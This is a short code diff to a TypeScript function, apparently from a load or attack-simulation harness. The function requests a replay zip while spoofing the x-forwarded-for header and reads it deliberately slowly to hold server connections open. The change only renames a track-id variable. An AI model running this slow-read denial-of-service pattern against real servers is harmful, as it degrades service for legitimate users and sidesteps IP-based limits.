@@ -9,7 +9,7 @@ const bytesPerSecond = 512;
 
 /** Requests the zip and reads it as slowly as possible, until the connection is closed. */
 function readSlowly(attacker: Attacker, address: string): Promise<void> {
-  const { port, host, crowdedTrackId } = attacker.stage;
+  const { port, host, heavyTrackId } = attacker.stage;
   return new Promise((resolve) => {
     let isFirst = true;
     const buffer = Buffer.alloc(bytesPerSecond);
@@ -24,7 +24,7 @@ function readSlowly(attacker: Attacker, address: string): Promise<void> {
     socket.on('error', () => {}); // a server may close such a connection
     socket.once('close', () => resolve());
     socket.write(
-      `GET /trackreplays/${crowdedTrackId}.zip HTTP/1.1\r\nhost: ${host}\r\nx-forwarded-for: ${address}\r\nconnection: close\r\n\r\n`,
+      `GET /trackreplays/${heavyTrackId}.zip HTTP/1.1\r\nhost: ${host}\r\nx-forwarded-for: ${address}\r\nconnection: close\r\n\r\n`,
     );
   });
 }
